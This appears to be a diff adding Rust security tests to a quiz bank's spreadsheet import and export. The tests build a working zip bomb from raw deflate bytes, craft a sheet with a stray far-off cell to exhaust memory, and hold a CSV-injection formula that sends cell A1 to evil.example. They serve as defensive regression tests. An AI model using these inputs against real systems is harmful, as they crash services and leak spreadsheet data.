@@ -595,3 +595,499 @@ kc-domain-ecg,ECG,kc-ecg-bav,Blocs AV,,cardio\n";
             .any(|n| n.code == "kc-domain-ecg-general" && n.level == "topic")
     );
 }
+
+// ------------------------------------------------------------ spreadsheet bombs (issue 9.8)
+
+fn import_opts() -> ImportOptions {
+    ImportOptions {
+        partial: false,
+        author_id: Uuid::now_v7(),
+        status: ItemStatus::InReview,
+        default_course: None,
+    }
+}
+
+/// A raw deflate stream (fixed Huffman codes) that inflates to `n` spaces: one literal, then
+/// back-references of 258 bytes at distance 1, 13 bits each.
+fn deflate_spaces(n: u64) -> Vec<u8> {
+    struct Bits {
+        out: Vec<u8>,
+        acc: u64,
+        len: u32,
+    }
+    impl Bits {
+        fn put(&mut self, value: u64, bits: u32) {
+            self.acc |= value << self.len;
+            self.len += bits;
+            while self.len >= 8 {
+                self.out.push((self.acc & 0xff) as u8);
+                self.acc >>= 8;
+                self.len -= 8;
+            }
+        }
+        /// Huffman codes are packed most significant bit first.
+        fn code(&mut self, code: u64, bits: u32) {
+            let reversed = (0..bits).fold(0, |r, i| r | (((code >> i) & 1) << (bits - 1 - i)));
+            self.put(reversed, bits);
+        }
+    }
+    let mut b = Bits {
+        out: Vec::new(),
+        acc: 0,
+        len: 0,
+    };
+    b.put(1, 1); // last block
+    b.put(1, 2); // fixed Huffman codes
+    b.code(0x30 + u64::from(b' '), 8);
+    let mut left = n - 1;
+    while left >= 258 {
+        b.code(0b1100_0101, 8); // length 258
+        b.code(0, 5); // distance 1
+        left -= 258;
+    }
+    for _ in 0..left {
+        b.code(0x30 + u64::from(b' '), 8);
+    }
+    b.code(0, 7); // end of block
+    if b.len > 0 {
+        b.out.push((b.acc & 0xff) as u8);
+    }
+    b.out
+}
+
+/// A one-part zip archive holding `data` (deflated) under `name`, declaring `declared` bytes
+/// once unzipped.
+fn zip_with(name: &str, data: &[u8], declared: u32) -> Vec<u8> {
+    let n = u16::try_from(name.len()).unwrap();
+    let size = u32::try_from(data.len()).unwrap();
+    let mut z = Vec::new();
+    let header = |z: &mut Vec<u8>, central: bool| {
+        if central {
+            z.extend(0x0201_4b50u32.to_le_bytes());
+            z.extend(20u16.to_le_bytes()); // made by
+        } else {
+            z.extend(0x0403_4b50u32.to_le_bytes());
+        }
+        for v in [20u16, 0, 8, 0, 0x21] {
+            z.extend(v.to_le_bytes()); // needed, flags, deflate, time, date
+        }
+        for v in [0u32, size, declared] {
+            z.extend(v.to_le_bytes()); // crc (never reached), sizes
+        }
+        z.extend(n.to_le_bytes());
+        z.extend(0u16.to_le_bytes()); // extra
+        if central {
+            for v in [0u16, 0, 0] {
+                z.extend(v.to_le_bytes()); // comment, disk, internal attributes
+            }
+            z.extend(0u32.to_le_bytes()); // external attributes
+            z.extend(0u32.to_le_bytes()); // offset of the local header
+        }
+        z.extend(name.as_bytes());
+    };
+    header(&mut z, false);
+    z.extend(data);
+    let cd_start = u32::try_from(z.len()).unwrap();
+    header(&mut z, true);
+    let cd_size = u32::try_from(z.len()).unwrap() - cd_start;
+    z.extend(0x0605_4b50u32.to_le_bytes());
+    for v in [0u16, 0, 1, 1] {
+        z.extend(v.to_le_bytes());
+    }
+    z.extend(cd_size.to_le_bytes());
+    z.extend(cd_start.to_le_bytes());
+    z.extend(0u16.to_le_bytes());
+    z
+}
+
+/// The attack (issue 9, finding 8): an .xlsx with one cell at A1 and one at XFD1048576 made the
+/// reader allocate the 17-billion-cell rectangle between them and aborted `myqcm serve`, whose
+/// worker then retried the job. The import now streams the cells and fails, with a message
+/// naming the stray cell, without allocating anything for the empty space.
+#[tokio::test]
+async fn a_workbook_with_a_cell_at_xfd1048576_fails_the_import_with_a_clear_message() {
+    let db = test_db().await.unwrap();
+    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
+        .await
+        .unwrap();
+    let mut wb = rust_xlsxwriter::Workbook::new();
+    let ws = wb.add_worksheet();
+    for (c, h) in [
+        "external_id",
+        "course",
+        "stem",
+        "option1",
+        "option2",
+        "correct",
+        "kcs",
+    ]
+    .iter()
+    .enumerate()
+    {
+        ws.write_string(0, u16::try_from(c).unwrap(), *h).unwrap();
+    }
+    for (c, v) in [
+        "far-1",
+        "cardio-hta",
+        "Quel examen confirme une HTA suspectée ?",
+        "MAPA",
+        "ECG",
+        "1",
+        "kc-cardio-hta-def",
+    ]
+    .iter()
+    .enumerate()
+    {
+        ws.write_string(1, u16::try_from(c).unwrap(), *v).unwrap();
+    }
+    ws.write_string(1_048_575, 16_383, "far away").unwrap();
+    let bytes = wb.save_to_buffer().unwrap();
+    let before = myqcm_db::catalogue::count_items(&*db).await.unwrap();
+    let r = import::import(
+        &db,
+        &bytes,
+        Format::Xlsx,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert!(!r.committed);
+    assert_eq!(r.errors.len(), 1, "{r:?}");
+    assert!(
+        r.errors[0].reason.contains("cell XFD1048576 lies outside"),
+        "{:?}",
+        r.errors[0]
+    );
+    assert_eq!(
+        myqcm_db::catalogue::count_items(&*db).await.unwrap(),
+        before
+    );
+    // Without the stray cell the same sheet imports.
+    let mut wb = rust_xlsxwriter::Workbook::new();
+    let ws = wb.add_worksheet();
+    ws.write_string(0, 0, "stem").unwrap();
+    ws.write_string(0, 1, "course").unwrap();
+    ws.write_string(0, 2, "expected").unwrap();
+    ws.write_string(0, 3, "kcs").unwrap();
+    ws.write_string(3, 0, "Seuil de PAS diurne en MAPA (mmHg) ?")
+        .unwrap();
+    ws.write_string(3, 1, "cardio-hta").unwrap();
+    ws.write_string(3, 2, "135").unwrap();
+    ws.write_string(3, 3, "kc-cardio-hta-mesure").unwrap();
+    let r = import::import(
+        &db,
+        &wb.save_to_buffer().unwrap(),
+        Format::Xlsx,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert!(r.committed && r.created == 1, "{r:?}");
+}
+
+/// A zip bomb: a 1.6 MB upload that unzips to 256 MiB of worksheet. It is refused from the
+/// sizes the archive declares, before anything is unzipped; an archive that understates them
+/// is refused while unzipping, as soon as the count passes the limit.
+#[tokio::test]
+async fn a_zip_bomb_is_refused_before_it_is_unzipped() {
+    let db = test_db().await.unwrap();
+    let huge: u32 = 256 * 1024 * 1024;
+    let bomb = zip_with(
+        "xl/worksheets/sheet1.xml",
+        &deflate_spaces(u64::from(huge)),
+        huge,
+    );
+    assert!(bomb.len() < 2 * 1024 * 1024, "{}", bomb.len());
+    let r = import::import(
+        &db,
+        &bomb,
+        Format::Xlsx,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert!(!r.committed);
+    assert!(
+        r.errors[0].reason.contains("unzips to more than 64 MiB"),
+        "{:?}",
+        r.errors
+    );
+    // The same stream declared as 1 KiB, read under a 1 MiB limit.
+    let liar = zip_with(
+        "xl/worksheets/sheet1.xml",
+        &deflate_spaces(8 * 1024 * 1024),
+        1024,
+    );
+    let limits = import::tabular::SheetLimits {
+        max_unzipped_bytes: 1024 * 1024,
+        ..import::tabular::LIMITS
+    };
+    let Err(e) = import::tabular::parse_xlsx_within(&liar, None, &limits) else {
+        panic!("an understated archive was read");
+    };
+    assert!(
+        e.reason.contains("unzips to more than 1 MiB")
+            || e.reason.contains("larger than its declared"),
+        "{e:?}"
+    );
+}
+
+/// Rows and columns are bounded in CSV files too, while reading.
+#[test]
+fn csv_rows_and_columns_are_bounded() {
+    let limits = import::tabular::SheetLimits {
+        max_rows: 3,
+        max_columns: 4,
+        ..import::tabular::LIMITS
+    };
+    let ok = "stem,course\na,b\nc,d\n";
+    assert!(import::tabular::parse_csv_within(ok.as_bytes(), None, &limits).is_ok());
+    let long = "stem,course\na,b\nc,d\ne,f\n";
+    let Err(e) = import::tabular::parse_csv_within(long.as_bytes(), None, &limits) else {
+        panic!("too many rows accepted");
+    };
+    assert!(e.reason.contains("more than 3 rows"), "{e:?}");
+    let wide = "stem,course\na,b,c,d,e\n";
+    let Err(e) = import::tabular::parse_csv_within(wide.as_bytes(), None, &limits) else {
+        panic!("too many columns accepted");
+    };
+    assert!(e.reason.contains("more than 4 columns"), "{e:?}");
+}
+
+// ------------------------------------------------------------ exports and authoring (issue 9.10)
+
+/// CSV injection: item text that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) would run
+/// as one when a reviewer opens an export in a spreadsheet program. Exports quote such cells
+/// with a leading `'`, and the import removes it again, so the export still re-imports as
+/// unchanged, in CSV and in .xlsx.
+#[tokio::test]
+async fn formula_cells_are_neutralised_in_exports_and_restored_on_import() {
+    let db = test_db().await.unwrap();
+    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
+        .await
+        .unwrap();
+    let csv = format!(
+        "{CSV_HEAD}f-1,qcs,cardio-hta,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"clic\"\")\",+33 6,-5,@SUM(1),1,,medium,45,kc-cardio-hta-def\n\
+         f-2,qcs,cardio-hta,'déjà cité' : quelle valeur ?,'=1,\"\tA\",\"\rB\",3,,medium,45,kc-cardio-hta-def\n"
+    );
+    let r = import::import(
+        &db,
+        csv.as_bytes(),
+        Format::Csv,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert!(r.committed, "{:?}", r.errors);
+    assert_eq!(r.created, 2);
+    let bank = import::export::bank(&db).await.unwrap();
+    let item = bank
+        .items
+        .iter()
+        .find(|i| i.external_id.as_deref() == Some("f-1"))
+        .unwrap();
+    assert!(item.stem.starts_with("=HYPERLINK("), "{}", item.stem);
+    assert_eq!(item.options[1].text, "-5");
+    let exported = import::export::write(&bank, Format::Csv).unwrap();
+    let mut rdr = csv::Reader::from_reader(exported.as_slice());
+    let mut seen = 0;
+    for rec in rdr.records() {
+        for cell in rec.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula cell: {cell:?}"
+            );
+            seen += usize::from(cell.starts_with("'="));
+        }
+    }
+    assert!(seen >= 2, "the formula-like cells are quoted");
+    for format in [Format::Csv, Format::Xlsx] {
+        let bytes = import::export::write(&bank, format).unwrap();
+        let r = import::import(&db, &bytes, format, &import_opts(), &|_, _| {}, epoch())
+            .await
+            .unwrap();
+        assert!(r.committed, "{format:?}: {:?}", r.errors.first());
+        assert_eq!((r.created, r.updated), (0, 0), "{format:?}: {r:?}");
+    }
+}
+
+/// Unit rules of the quoting: a leading quote that is content survives the round trip too.
+#[test]
+fn cell_quoting_round_trips() {
+    use import::tabular::{escape_cell, unescape_cell};
+    for v in [
+        "=1+1", "+33", "-5", "@x", "\tx", "\rx", "'=1", "'quoted'", "''", "plain", "", "é",
+    ] {
+        assert_eq!(unescape_cell(escape_cell(v.to_owned())), v, "{v:?}");
+    }
+    assert_eq!(escape_cell("=1".into()), "'=1");
+    assert_eq!(escape_cell("plain".into()), "plain");
+    // A quote written by a person before ordinary text stays.
+    assert_eq!(unescape_cell("'hello".into()), "'hello");
+}
+
+/// The attack: an author creates a draft claiming `external_id` "bank-0042", the id of a row
+/// an admin will import later; the import then matched the draft by that id and wrote the
+/// bank's content (and status) onto the author's item. Only import/export staff set external
+/// ids; the author's draft is refused that field and the import creates its own item.
+#[tokio::test]
+async fn an_author_cannot_pre_claim_an_external_id() {
+    let db = test_db().await.unwrap();
+    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
+        .await
+        .unwrap();
+    let author = actor(&[Role::Author]);
+    let mut input = draft_input();
+    input.external_id = Some("bank-0042".into());
+    match catalogue::create_item(&db, &author, input, epoch()).await {
+        Err(CatalogueError::Invalid(errs)) => {
+            assert_eq!(
+                (errs[0].field.as_str(), errs[0].code),
+                ("external_id", "not_allowed")
+            );
+        }
+        other => panic!("an author set an external id: {other:?}"),
+    }
+    let draft = catalogue::create_item(&db, &author, draft_input(), epoch())
+        .await
+        .unwrap();
+    assert!(draft.external_id.is_none());
+    let csv = format!(
+        "{CSV_HEAD}bank-0042,qcs,cardio-hta,Question de la banque officielle ?,A,B,C,1,,medium,45,kc-cardio-hta-def\n"
+    );
+    let r = import::import(
+        &db,
+        csv.as_bytes(),
+        Format::Csv,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert_eq!((r.created, r.updated), (1, 0), "{r:?}");
+    let imported = myqcm_db::catalogue::item_by_external_id(&*db, "bank-0042")
+        .await
+        .unwrap()
+        .unwrap();
+    assert_ne!(imported.id, draft.id);
+    // Import staff may set one through the API.
+    let staff = Actor {
+        scopes: vec![
+            myqcm_domain::permissions::AdminScope::Content,
+            myqcm_domain::permissions::AdminScope::Super,
+        ],
+        ..content_admin()
+    };
+    let mut input = draft_input();
+    input.external_id = Some("bank-0043".into());
+    let made = catalogue::create_item(&db, &staff, input, epoch())
+        .await
+        .unwrap();
+    assert_eq!(made.external_id.as_deref(), Some("bank-0043"));
+}
+
+/// The attack: `translation_of` pointing at another author's draft joined its translation group
+/// (and so revealed it exists, and linked the two). The original must be readable by the
+/// caller; otherwise the answer is the 404 of an unknown id.
+#[tokio::test]
+async fn translation_of_needs_an_original_the_caller_may_read() {
+    let db = test_db().await.unwrap();
+    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
+        .await
+        .unwrap();
+    let (alice, mallory) = (actor(&[Role::Author]), actor(&[Role::Author]));
+    let secret = catalogue::create_item(&db, &alice, draft_input(), epoch())
+        .await
+        .unwrap();
+    let mut english = draft_input();
+    english.content.locale = "en".parse().unwrap();
+    english.translation_of = Some(secret.id);
+    assert!(matches!(
+        catalogue::create_item(&db, &mallory, english.clone(), epoch()).await,
+        Err(CatalogueError::NotFound)
+    ));
+    // Alice may translate her own draft; anyone may translate an approved item.
+    let own = catalogue::create_item(&db, &alice, english.clone(), epoch())
+        .await
+        .unwrap();
+    let approved = myqcm_db::catalogue::item_by_external_id(&*db, "demo-cardio-0002")
+        .await
+        .unwrap()
+        .unwrap();
+    english.translation_of = Some(approved.id);
+    let english_of_approved = catalogue::create_item(&db, &mallory, english, epoch()).await;
+    assert!(
+        english_of_approved.is_ok()
+            || matches!(&english_of_approved, Err(CatalogueError::Invalid(e)) if e[0].code == "same_locale"),
+        "{english_of_approved:?}"
+    );
+    let own_row = myqcm_db::catalogue::item_by_id(&*db, own.id)
+        .await
+        .unwrap()
+        .unwrap();
+    let secret_row = myqcm_db::catalogue::item_by_id(&*db, secret.id)
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(
+        own_row.translation_group_id,
+        secret_row.translation_group_id
+    );
+}
+
+/// Text with control characters is refused at the import boundary too, naming where it is:
+/// PostgreSQL cannot store a NUL, and one such cell used to fail the whole import as a
+/// database error (retried by the job, then dead).
+#[tokio::test]
+async fn imports_refuse_text_with_control_characters_naming_the_place() {
+    let db = test_db().await.unwrap();
+    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
+        .await
+        .unwrap();
+    let csv = format!(
+        "{CSV_HEAD}{}{}",
+        csv_row(1),
+        csv_row(2).replace("Option B 2", "Option\u{0}B")
+    );
+    let r = import::import(
+        &db,
+        csv.as_bytes(),
+        Format::Csv,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert!(!r.committed);
+    assert_eq!(r.errors.len(), 1, "{r:?}");
+    assert_eq!(
+        (r.errors[0].row, r.errors[0].column.as_str()),
+        (3, "option2")
+    );
+    let mut bank = import::export::bank(&db).await.unwrap();
+    bank.items.truncate(2);
+    bank.items[1].explanation = "bell \u{7} here".into();
+    let bytes = import::export::write(&bank, Format::Json).unwrap();
+    let r = import::import(
+        &db,
+        &bytes,
+        Format::Json,
+        &import_opts(),
+        &|_, _| {},
+        epoch(),
+    )
+    .await
+    .unwrap();
+    assert!(!r.committed);
+    assert_eq!(r.errors[0].column, "items[1].explanation", "{r:?}");
+}
